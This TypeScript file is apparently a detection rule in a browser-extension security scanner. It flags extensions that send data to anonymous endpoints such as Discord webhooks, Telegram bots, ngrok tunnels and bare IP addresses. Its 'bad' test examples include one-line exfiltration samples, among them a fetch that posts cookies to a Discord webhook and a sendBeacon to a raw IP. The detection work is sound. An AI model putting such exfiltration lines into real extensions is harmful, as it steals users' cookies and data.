import { addressesOf, type RemoteAddress } from '../../facts/extension/addresses.ts';
import { hidingService, isBareAddress } from '../../facts/extension/hiddenPlaces.ts';
import { scriptsOf } from '../../facts/javascript/query.ts';
import type { Facts } from '../../facts.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { isOwnHook } from '../../verdict/isOwnHook.ts';
import { GRAVE } from '../code/grave.ts';
import { passwordFieldRead } from '../code/password-field-read.ts';
import { requestsOf } from '../code/requestsOf.ts';
import { sessionCookiesTaken } from '../code/session-cookies-taken.ts';
import { tokenTakenFromPage } from '../code/token-taken-from-page.ts';
import { say } from '../../../texts/say.ts';

/** Whether it is a hook or bot of the person's own, by a key that is a setting. */
function isOfPerson(facts: Facts, { use, url, place }: RemoteAddress): boolean {
  if (use !== 'request' || hidingService(url) === undefined) return false;
  const { script } = [...scriptsOf(facts)].find(({ file }) => file.path === place.path) ?? {};
  if (script === undefined) return false;
  const ofPlace = requestsOf(script).filter(({ to }) => to === url);
  return ofPlace.length > 0 && ofPlace.every(({ address }) => isOwnHook(facts, script, address, url));
}

/** Rules that tell where an extension takes what opens accounts. */
const TAKES_KEYS = [tokenTakenFromPage, sessionCookiesTaken, passwordFieldRead];

/** Whether it does: nothing good explains that beside a place that names nobody, though no way between them was followed. */
const takesKeys = (facts: Facts): boolean =>
  TAKES_KEYS.some((rule) => {
    const [hit] = rule.check(facts);
    return hit !== undefined;
  });

export const dropboxEndpoint = defineRule({
  id: 'dropbox-endpoint',
  title: 'Sends data to an anonymous endpoint',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-200',
  references: ['https://attack.mitre.org/techniques/T1567/', 'https://attack.mitre.org/techniques/T1102/'],
  why: 'Chat bots, catch-all inboxes, tunnels and bare IP addresses are free, name nobody and are gone in a day. Data thieves use them; honest services have a domain.',
  remedy: 'Send to a server under the publisher’s domain, over https, and state in the privacy policy what is sent.',
  *check(facts) {
    const seen = new Map<string, Hit>();
    const own = new Set<string>();
    for (const address of facts.whole(addressesOf)) {
      if (address.library || address.use === 'navigation') continue;
      const service =
        hidingService(address.url) ??
        (address.use === 'request' && isBareAddress(address.url)
          ? { name: 'a bare network address', severity: 'medium' as const }
          : undefined);
      if (service === undefined) continue;
      const key = `${service.name} ${address.host}`;
      if (isOfPerson(facts, address)) {
        own.add(key);
        continue;
      }
      const mention = address.use === 'mention';
      if (seen.has(key) && (mention || seen.get(key)?.confidence !== 'low')) continue;
      // The path of a hook is its password.
      const shown = address.evidence.replace(
        /(webhooks\/\d{3})[\w/-]+|(bot\d{3})[\w:-]+|(services\/\w{2})[\w/-]+/gi,
        (_, a?: string, b?: string, c?: string) => `${a ?? b ?? c ?? ''}…`,
      );
      seen.set(key, {
        place: address.place,
        evidence: shown,
        severity: service.severity,
        message: say('goes-to-service', service.name, address.host),
        ...(mention ? { confidence: 'low' as const } : facts.whole(takesKeys) ? GRAVE : {}),
      });
    }
    // The beginning of such an address, which is a text of its own.
    for (const [key, hit] of seen) if (!own.has(key) || hit.confidence !== 'low') yield hit;
  },
  examples: {
    bad: [
      {
        files: {
          'manifest.json': '{"manifest_version": 3}',
          'bg.js':
            "const HOOK = 'https://discord.com/api/webhooks/' + id;\nfetch(HOOK, { method: 'POST', body: JSON.stringify({ content: cookies }) });",
        },
      },
      {
        files: {
          'manifest.json': '{"manifest_version": 3}',
          'bg.js': 'fetch(`https://api.telegram.org/bot${token}/sendMessage?text=${t}`);',
        },
      },
      {
        files: {
          'manifest.json': '{"manifest_version": 3}',
          'bg.js': "navigator.sendBeacon('http://45.77.12.9:8080/in', data);",
        },
      },
      { files: { 'manifest.json': '{"manifest_version": 3}', 'bg.js': "fetch('https://abc123.ngrok-free.app/c');" } },
    ],
    good: [
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "options_page": "options.html", "background": {"service_worker": "bg.js"}}',
          'options.html': '<input id="token"><script src="options.js"></script>',
          'options.js':
            "document.getElementById('token').onchange = (e) => chrome.storage.sync.set({ bot: { token: e.target.value } });",
          'bg.js':
            "async function tell(text) { const { bot } = await chrome.storage.sync.get('bot'); await fetch(`https://api.telegram.org/bot${bot.token}/sendMessage`, { method: 'POST', body: text }); }",
        },
      },
      {
        files: {
          'manifest.json': '{"manifest_version": 3}',
          'bg.js':
            "fetch('https://api.mine.io/'); fetch('http://192.168.0.10/'); fetch('https://discord.com/api/v10/users/@me');",
        },
      },
      {
        files: {
          'manifest.json': '{"manifest_version": 3}',
          'bg.js': "const dns = ['1.1.1.1', '8.8.8.8']; chrome.tabs.create({ url: 'https://pastebin.com/raw/x' });",
        },
      },
      { files: { 'manifest.json': '{"manifest_version": 3}', 'bg.js': "const version = 'http://1.2.3/';" } },
    ],
  },
});
